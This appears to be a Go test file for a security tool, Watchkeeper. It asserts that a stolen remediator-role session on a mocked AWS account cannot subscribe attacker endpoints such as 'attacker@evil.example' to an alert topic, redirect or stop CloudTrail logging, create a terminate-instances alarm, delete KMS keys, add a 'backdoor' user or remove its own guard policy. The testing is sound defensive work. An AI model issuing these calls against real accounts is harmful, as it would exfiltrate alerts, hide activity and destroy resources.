package iampolicy_test

import (
	"encoding/json"
	"fmt"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	cttypes "github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	cwtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"
	"github.com/aws/aws-sdk-go-v2/service/kms"
	"github.com/aws/aws-sdk-go-v2/service/sns"

	"github.com/watchkeeper/watchkeeper/test/world"
)

// account is what the tests seed: Watchkeeper's topic, the configured
// trail and a trail Watchkeeper was not configured for (stopped, so
// starting it would be a visible change).
type account struct {
	topicARN string
	keyID    string
}

func seed(t *testing.T, g *guardedMoto) account {
	t.Helper()
	w := world.New(func(string) aws.Config { return g.config(g.admin) })
	if _, err := w.Trail(ctx(t), world.TrailSpec{Name: ownTrail, HomeRegion: region}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Trail(ctx(t), world.TrailSpec{Name: otherTrail, HomeRegion: region, NotLogging: true}); err != nil {
		t.Fatal(err)
	}
	topic, err := w.Topic(ctx(t), region, topicName)
	if err != nil {
		t.Fatal(err)
	}
	key, err := kms.NewFromConfig(g.config(g.admin)).CreateKey(ctx(t), &kms.CreateKeyInput{})
	if err != nil {
		t.Fatal(err)
	}
	return account{topicARN: topic, keyID: aws.ToString(key.KeyMetadata.KeyId)}
}

// A session of the remediator's role cannot subscribe an attacker, point
// an alarm at an EC2 action, or change a trail it was not configured for,
// and moto's state shows nothing changed. On moto 5.2.1 these denials hold
// because no resource-scoped statement applies at all (TestMotoIAMModel);
// that the conditions admit the configured calls and refuse these is
// proven on the policy by infra's TestStolenSessionCannotWeaponisePolicy.
func TestStolenSessionCannotWeaponiseOnMoto(t *testing.T) {
	g := startGuarded(t)
	acct := seed(t, g)
	// moto 5.2.1 turns a Deny with NotResource into an Allow
	// (TestMotoIAMModel), which on moto alone would let the session write
	// every trail. AWS denies with it; here it is left out, and infra's
	// TestGuardHoldsAgainstABroadPolicyAttachedLater judges it instead.
	doc, dropped := withoutNotResource(t, goldenPolicy(t))
	t.Logf("attached the synthesized policy without %v (NotResource statements moto mis-evaluates)", dropped)
	session := g.config(g.newRole(t, map[string]string{"RemediatorPolicy": doc}))
	snsc, cw, ct := sns.NewFromConfig(session), cloudwatch.NewFromConfig(session), cloudtrail.NewFromConfig(session)

	attacks := []struct {
		name string
		call func() error
	}{
		{"subscribe an attacker's e-mail", func() error {
			_, err := snsc.Subscribe(ctx(t), &sns.SubscribeInput{TopicArn: aws.String(acct.topicARN), Protocol: aws.String("email"), Endpoint: aws.String("attacker@evil.example")})
			return err
		}},
		{"subscribe an attacker's https endpoint", func() error {
			_, err := snsc.Subscribe(ctx(t), &sns.SubscribeInput{TopicArn: aws.String(acct.topicARN), Protocol: aws.String("https"), Endpoint: aws.String("https://evil.example/loot")})
			return err
		}},
		{"alarm that terminates instances", func() error {
			_, err := cw.PutMetricAlarm(ctx(t), &cloudwatch.PutMetricAlarmInput{
				AlarmName: aws.String("watchkeeper-3.1"), MetricName: aws.String("CPUUtilization"), Namespace: aws.String("AWS/EC2"),
				Statistic: cwtypes.StatisticAverage, Period: aws.Int32(60), EvaluationPeriods: aws.Int32(1), Threshold: aws.Float64(0),
				ComparisonOperator: cwtypes.ComparisonOperatorGreaterThanOrEqualToThreshold,
				AlarmActions:       []string{fmt.Sprintf("arn:aws:automate:%s:ec2:terminate", region)},
			})
			return err
		}},
		{"start logging on another trail", func() error {
			_, err := ct.StartLogging(ctx(t), &cloudtrail.StartLoggingInput{Name: aws.String(otherTrail)})
			return err
		}},
		{"rewrite another trail's event selectors", func() error {
			_, err := ct.PutEventSelectors(ctx(t), &cloudtrail.PutEventSelectorsInput{TrailName: aws.String(otherTrail),
				EventSelectors: []cttypes.EventSelector{{ReadWriteType: cttypes.ReadWriteTypeReadOnly, IncludeManagementEvents: aws.Bool(true)}}})
			return err
		}},
		{"point another trail at an attacker's bucket", func() error {
			_, err := ct.UpdateTrail(ctx(t), &cloudtrail.UpdateTrailInput{Name: aws.String(otherTrail), S3BucketName: aws.String("attacker-bucket")})
			return err
		}},
		{"stop the configured trail", func() error {
			_, err := ct.StopLogging(ctx(t), &cloudtrail.StopLoggingInput{Name: aws.String(ownTrail)})
			return err
		}},
	}
	for _, a := range attacks {
		if err := a.call(); !denied(err) {
			t.Errorf("%s: got %v, want access denied", a.name, err)
		}
	}

	// Nothing changed.
	admin := g.config(g.admin)
	subs, err := sns.NewFromConfig(admin).ListSubscriptionsByTopic(ctx(t), &sns.ListSubscriptionsByTopicInput{TopicArn: aws.String(acct.topicARN)})
	if err != nil {
		t.Fatal(err)
	}
	if len(subs.Subscriptions) != 0 {
		t.Errorf("topic has subscriptions %v after the attacks, want none", subs.Subscriptions)
	}
	alarms, err := cloudwatch.NewFromConfig(admin).DescribeAlarms(ctx(t), &cloudwatch.DescribeAlarmsInput{AlarmNames: []string{"watchkeeper-3.1"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(alarms.MetricAlarms) != 0 {
		t.Errorf("alarm watchkeeper-3.1 exists after the attacks")
	}
	for name, wantLogging := range map[string]bool{otherTrail: false, ownTrail: true} {
		st, err := cloudtrail.NewFromConfig(admin).GetTrailStatus(ctx(t), &cloudtrail.GetTrailStatusInput{Name: aws.String(name)})
		if err != nil {
			t.Fatal(err)
		}
		if aws.ToBool(st.IsLogging) != wantLogging {
			t.Errorf("trail %s logging=%t after the attacks, want %t", name, aws.ToBool(st.IsLogging), wantLogging)
		}
	}
}

// withoutNotResource returns the policy without its NotResource statements,
// and their Sids.
func withoutNotResource(t *testing.T, policy string) (string, []string) {
	t.Helper()
	var doc struct {
		Version   string
		Statement []map[string]any
	}
	if err := json.Unmarshal([]byte(policy), &doc); err != nil {
		t.Fatal(err)
	}
	var kept []map[string]any
	var dropped []string
	for _, st := range doc.Statement {
		if _, ok := st["NotResource"]; ok {
			dropped = append(dropped, fmt.Sprint(st["Sid"]))
			continue
		}
		kept = append(kept, st)
	}
	doc.Statement = kept
	b, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b), dropped
}

// Even with an allow-everything policy attached to the role later, the
// explicit Deny statements that moto can evaluate (action-level, Resource
// "*") stop the destructive calls, and the role cannot remove its own
// guard. CloudWatch's are not among them: moto names CloudWatch actions
// monitoring:*, so a cloudwatch:* statement never matches there
// (TestMotoIAMModel).
func TestGuardHoldsOnMotoWithABroadPolicyAttached(t *testing.T) {
	g := startGuarded(t)
	acct := seed(t, g)
	creds := g.newRole(t, map[string]string{
		"RemediatorPolicy": goldenPolicy(t),
		"AttachedLater":    `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`,
	})
	session := g.config(creds)
	snsc, ct, kmsc := sns.NewFromConfig(session), cloudtrail.NewFromConfig(session), kms.NewFromConfig(session)

	calls := []struct {
		name string
		call func() error
	}{
		{"cloudtrail:DeleteTrail", func() error {
			_, err := ct.DeleteTrail(ctx(t), &cloudtrail.DeleteTrailInput{Name: aws.String(ownTrail)})
			return err
		}},
		{"cloudtrail:StopLogging", func() error {
			_, err := ct.StopLogging(ctx(t), &cloudtrail.StopLoggingInput{Name: aws.String(ownTrail)})
			return err
		}},
		{"cloudtrail:UpdateTrail (not granted at trailHealing=safe)", func() error {
			_, err := ct.UpdateTrail(ctx(t), &cloudtrail.UpdateTrailInput{Name: aws.String(ownTrail), EnableLogFileValidation: aws.Bool(false)})
			return err
		}},
		{"sns:DeleteTopic", func() error {
			_, err := snsc.DeleteTopic(ctx(t), &sns.DeleteTopicInput{TopicArn: aws.String(acct.topicARN)})
			return err
		}},
		{"sns:SetTopicAttributes", func() error {
			_, err := snsc.SetTopicAttributes(ctx(t), &sns.SetTopicAttributesInput{TopicArn: aws.String(acct.topicARN),
				AttributeName: aws.String("Policy"), AttributeValue: aws.String(`{"Version":"2012-10-17","Statement":[]}`)})
			return err
		}},
		{"kms:ScheduleKeyDeletion", func() error {
			_, err := kmsc.ScheduleKeyDeletion(ctx(t), &kms.ScheduleKeyDeletionInput{KeyId: aws.String(acct.keyID)})
			return err
		}},
		{"kms:DisableKey", func() error {
			_, err := kmsc.DisableKey(ctx(t), &kms.DisableKeyInput{KeyId: aws.String(acct.keyID)})
			return err
		}},
		{"iam:DeleteRolePolicy (its own guard)", func() error {
			_, err := g.iam(t, creds, "DeleteRolePolicy", "RoleName", roleName, "PolicyName", "RemediatorPolicy")
			return err
		}},
		{"iam:CreateUser", func() error {
			_, err := g.iam(t, creds, "CreateUser", "UserName", "backdoor")
			return err
		}},
	}
	for _, c := range calls {
		if err := c.call(); !denied(err) {
			t.Errorf("%s: got %v, want access denied", c.name, err)
		}
	}
	// The broad policy is in force, so the denials above are the guard's.
	if _, err := ct.DescribeTrails(ctx(t), &cloudtrail.DescribeTrailsInput{}); err != nil {
		t.Errorf("DescribeTrails with the broad policy attached: %v", err)
	}
}
